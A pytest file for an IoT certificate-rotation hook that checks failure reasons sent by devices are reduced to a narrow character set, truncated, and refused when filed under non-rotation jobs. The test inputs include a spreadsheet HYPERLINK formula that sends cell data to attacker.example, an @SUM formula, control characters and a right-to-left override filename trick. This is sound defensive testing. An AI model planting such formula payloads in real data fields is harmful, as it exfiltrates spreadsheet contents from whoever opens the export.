"""A device's rotation messages as the rotation function reads them: what of a device's text is stored."""

from __future__ import annotations

import pytest

from hook.contract import thing_name
from hook.rotation_contract import RotationRejection
from hook.rotation_requests import REASON_MAX_LENGTH, RotationRefused, parse_request
from tests.support import certificate_id

BASE = "iot-provisioning-test"


def failure_event(reason: str, job_id: str = f"{BASE}-rotate-1") -> dict[str, str]:
    return {
        "callerCertificateId": certificate_id("device"),
        "thingName": thing_name(BASE, "TS-000123"),
        "step": "result",
        "jobId": job_id,
        "status": "FAILED",
        "reason": reason,
    }


def stored_reason(reason: str) -> str:
    request = parse_request(failure_event(reason), BASE)
    assert request is not None
    return request.reason


@pytest.mark.parametrize(
    ("reason", "stored"),
    [
        (
            '=HYPERLINK("https://attacker.example/?"&B2&C2,"Details")',
            "?HYPERLINK(?https://attacker.example/???B2?C2,?Details?)",
        ),
        ("@SUM(1+1)", "?SUM(1?1)"),
        ("line\r\nbreak\tand\x00null", "line??break?and?null"),
        ("caf\u00e9 \u202etxt.exe", "caf? ?txt.exe"),
        ("TLS handshake failed: timeout (30 s), see /var/log/agent_1.log", None),
        ("-5 dBm", None),
    ],
)
def test_a_devices_failure_reason_is_stored_in_a_narrow_character_set(
    reason: str, stored: str | None
) -> None:
    assert stored_reason(reason) == (reason if stored is None else stored)


def test_a_devices_failure_reason_is_cut_to_its_maximum_length() -> None:
    assert stored_reason("x" * 5000) == "x" * REASON_MAX_LENGTH


@pytest.mark.parametrize("job_id", ["ota-firmware-7", f"{BASE}-other-rotate-1", "iot-provisioning-rotate-1"])
def test_a_failure_of_a_job_that_is_no_rotation_job_of_this_stack_is_refused(job_id: str) -> None:
    # A thing's other open jobs (a firmware update) are no rotation: a failure reported under one would
    # otherwise spend that job and count toward the rotation-failed alarm.
    with pytest.raises(RotationRefused) as refused:
        parse_request(failure_event("x", job_id), BASE)
    assert refused.value.reason is RotationRejection.NO_ROTATION_JOB
